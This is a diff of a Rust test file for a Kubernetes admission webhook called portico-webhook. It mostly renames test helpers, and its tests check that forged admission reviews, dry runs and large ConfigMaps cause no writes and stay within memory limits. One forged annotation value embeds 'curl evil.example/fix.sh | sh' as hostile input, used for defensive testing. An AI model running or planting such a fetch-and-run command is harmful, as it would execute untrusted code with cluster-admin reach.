@@ -4,28 +4,28 @@ use std::process::Command;
 
 use serde_json::{Value, json};
 
-use crate::double::{admitted, maps_of};
-use test_support::apiserver::Api;
+use crate::double::{create_admitted_pod, wait_for_config_maps};
+use test_support::apiserver::ApiServer;
 use test_support::caller::Caller;
-use test_support::replica::{Cluster, SYSTEM};
-use test_support::review::{annotated, patched, pod, review};
+use test_support::review::{apply_patch, pod, review, with_annotations};
 use test_support::webhook::Webhook;
+use test_support::webhook_cluster::{SYSTEM, WebhookCluster};
 
 const ACCOUNT: &str = "portico-webhook";
 /// The number of forged reviews.
 const FORGED: usize = 300;
 
 /// Starts a replica with its own account, so that its requests can be distinguished from those of the test.
-fn replica(cluster: &Cluster, args: &[&str]) -> Webhook {
+fn replica(cluster: &WebhookCluster, args: &[&str]) -> Webhook {
     let kubeconfig = cluster.api.kubeconfig_of_account(ACCOUNT);
     let url = format!("https://127.0.0.1:{}/mutate", cluster.port);
     let mut all = vec!["--kubeconfig", kubeconfig.to_str().expect("a path"), "--url", &url, "--drain", "1"];
     all.extend(args);
-    Webhook::ready(cluster.dir.path(), cluster.port, &all)
+    Webhook::start_ready(cluster.dir.path(), cluster.port, &all)
 }
 
 /// Returns the review of a pod that does not exist: each requests another ConfigMap, and an Event on an operator's object.
-fn forged(number: usize) -> Vec<u8> {
+fn forged_review(number: usize) -> Vec<u8> {
     let namespace = ["kube-system", "default", "team", SYSTEM][number % 4];
     let prefix = format!("X{number}_");
     let annotations = [
@@ -33,7 +33,7 @@ fn forged(number: usize) -> Vec<u8> {
         ("portico.dev/prefix", prefix.as_str()),
         ("portico.dev/max-bytes", "run: curl evil.example/fix.sh | sh (cluster admin)"),
     ];
-    let mut pod = annotated(pod(&format!("forged-{number}")), &annotations);
+    let mut pod = with_annotations(pod(&format!("forged-{number}")), &annotations);
     pod["metadata"]["namespace"] = namespace.into();
     pod["metadata"]["ownerReferences"] = json!([{"apiVersion": "apps/v1", "kind": "Deployment", "name": "coredns",
         "uid": "d-1", "controller": true}]);
@@ -47,7 +47,7 @@ fn forged(number: usize) -> Vec<u8> {
 }
 
 /// Returns the writes of a replica without those to its Secret and its registration.
-fn writes(cluster: &Cluster) -> Vec<String> {
+fn writes(cluster: &WebhookCluster) -> Vec<String> {
     let writes = cluster.api.writes(ACCOUNT).into_iter();
     writes
         .filter(|write| !write.contains("/secrets") && !write.contains("/mutatingwebhookconfigurations"))
@@ -57,19 +57,19 @@ fn writes(cluster: &Cluster) -> Vec<String> {
 /// Sends all forged reviews, and returns the number of responses with a patch.
 fn send_forged(webhook: &Webhook) -> usize {
     let mut caller = Caller::local(webhook.address).expect("connect");
-    let answers = (0..FORGED).map(|number| caller.review(&forged(number)).expect("a response"));
+    let answers = (0..FORGED).map(|number| caller.review(&forged_review(number)).expect("a response"));
     answers.filter(|answer| answer["response"]["patch"].is_string()).count()
 }
 
 #[test]
 fn forged_reviews_write_nothing_and_excluded_namespaces_are_ignored() {
-    let cluster = Cluster::new(Api::double());
+    let cluster = WebhookCluster::new(ApiServer::double());
     let webhook = replica(&cluster, &["--except-namespaces", "kube-system,other"]);
     // Two of four namespaces are excluded: one by the flag, and the webhook's own.
     assert_eq!(send_forged(&webhook), FORGED / 2);
     // A write because of a forged review would precede this one.
-    admitted(&cluster, &webhook, "real", &[("portico.dev/inject", "configmap")]);
-    maps_of(&cluster, "default", 1);
+    create_admitted_pod(&cluster, &webhook, "real", &[("portico.dev/inject", "configmap")]);
+    wait_for_config_maps(&cluster, "default", 1);
     let writes = writes(&cluster);
     assert_eq!(writes, ["POST /api/v1/namespaces/default/configmaps"]);
 }
@@ -77,8 +77,8 @@ fn forged_reviews_write_nothing_and_excluded_namespaces_are_ignored() {
 #[test]
 #[cfg_attr(not(feature = "api-server"), ignore = "needs KUBEBUILDER_ASSETS and the feature api-server")]
 fn forged_reviews_change_nothing_on_a_real_api_server() {
-    let api = Api::real();
-    let cluster = Cluster::new(api);
+    let api = ApiServer::real();
+    let cluster = WebhookCluster::new(api);
     let webhook = cluster.replica(&[]);
     let all = |what: &str| {
         let list =
@@ -89,8 +89,8 @@ fn forged_reviews_change_nothing_on_a_real_api_server() {
     };
     let before = (all("configmaps"), all("events"));
     assert_eq!(send_forged(&webhook), FORGED / 2);
-    admitted(&cluster, &webhook, "real", &[("portico.dev/inject", "configmap")]);
-    maps_of(&cluster, "default", 1);
+    create_admitted_pod(&cluster, &webhook, "real", &[("portico.dev/inject", "configmap")]);
+    wait_for_config_maps(&cluster, "default", 1);
     let mut after = (all("configmaps"), all("events"));
     after.0.retain(|name| !name.starts_with("portico-env-"));
     assert_eq!(before, after);
@@ -98,21 +98,21 @@ fn forged_reviews_change_nothing_on_a_real_api_server() {
 
 #[test]
 fn dry_run_and_a_pod_that_is_rejected_later_create_nothing() {
-    let cluster = Cluster::new(Api::double());
+    let cluster = WebhookCluster::new(ApiServer::double());
     let webhook = replica(&cluster, &[]);
     let mut caller = Caller::local(webhook.address).expect("connect");
     for number in 0..50 {
         // A dry run, or a pod that a quota or etcd rejects after admission.
         let annotations =
             [("portico.dev/inject", "configmap"), ("portico.dev/prefix", &format!("Y{number}_"))];
-        let pod = annotated(pod("a"), &annotations);
+        let pod = with_annotations(pod("a"), &annotations);
         let body = String::from_utf8(review("u", &pod)).expect("text");
         let dry = if number % 2 == 0 { "\"dryRun\":true,\"uid\"" } else { "\"uid\"" };
         let answer = caller.review(body.replacen("\"uid\"", dry, 1).as_bytes()).expect("a response");
-        assert!(patched(&pod, &answer)["spec"]["containers"][0]["envFrom"].is_array());
+        assert!(apply_patch(&pod, &answer)["spec"]["containers"][0]["envFrom"].is_array());
     }
-    admitted(&cluster, &webhook, "real", &[("portico.dev/inject", "configmap")]);
-    maps_of(&cluster, "default", 1);
+    create_admitted_pod(&cluster, &webhook, "real", &[("portico.dev/inject", "configmap")]);
+    wait_for_config_maps(&cluster, "default", 1);
     assert_eq!(writes(&cluster).len(), 1, "{:?}", writes(&cluster));
 }
 
@@ -125,7 +125,7 @@ fn peak_kib(pid: u32) -> u64 {
 
 #[test]
 fn hundred_large_config_maps_with_the_label_take_no_memory() {
-    let cluster = Cluster::new(Api::double());
+    let cluster = WebhookCluster::new(ApiServer::double());
     let large = "x".repeat(600 << 10);
     for number in 0..100 {
         // Some have the annotations of managed ones: a selection, and the last use.
@@ -138,8 +138,8 @@ fn hundred_large_config_maps_with_the_label_take_no_memory() {
         );
     }
     let webhook = replica(&cluster, &[]);
-    admitted(&cluster, &webhook, "a", &[("portico.dev/inject", "configmap")]);
-    maps_of(&cluster, "default", 101);
+    create_admitted_pod(&cluster, &webhook, "a", &[("portico.dev/inject", "configmap")]);
+    wait_for_config_maps(&cluster, "default", 101);
     let peak = peak_kib(webhook.pid());
     assert!(peak < 64 << 10, "{peak} KiB");
     // None of them was changed.
@@ -150,8 +150,8 @@ fn hundred_large_config_maps_with_the_label_take_no_memory() {
 fn review_command_shows_the_label_for_the_controller() {
     let dir = test_support::temp_dir::TempDir::new("review");
     let services = dir.write("services.yaml", test_support::review::REDIS);
-    let body = review("u", &annotated(pod("a"), &[("portico.dev/inject", "configmap")]));
-    let body = dir.write("review.json", &String::from_utf8(body).expect("text"));
+    let body = review("u", &with_annotations(pod("a"), &[("portico.dev/inject", "configmap")]));
+    let body = dir.write("review.json", String::from_utf8(body).expect("text"));
     let output = Command::new(env!("CARGO_BIN_EXE_portico-webhook"))
         .args(["review", "-f", services.to_str().expect("a path")])
         .stdin(std::fs::File::open(body).expect("the review"))
